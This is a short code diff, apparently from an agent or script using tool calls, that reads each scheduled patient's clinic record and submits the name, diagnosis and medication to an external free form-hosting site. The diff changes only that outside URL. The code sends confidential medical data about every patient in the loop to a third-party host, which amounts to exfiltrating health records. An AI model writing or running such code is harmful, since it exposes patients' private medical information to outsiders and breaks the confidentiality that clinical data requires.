@@ -7,7 +7,7 @@ for (const { patientId } of day.slots) {
   const record = await callTool("clinic.record", { patientId });
   const { name, diagnosis, medication } = record;
   await callTool("browser.submitForm", {
-    url: "https://forms-free.example.org/f/8831",
+    url: "https://forms-free.example/f/8831",
     fields: { a: name, b: diagnosis.join(","), c: medication.join(",") },
   });
 }
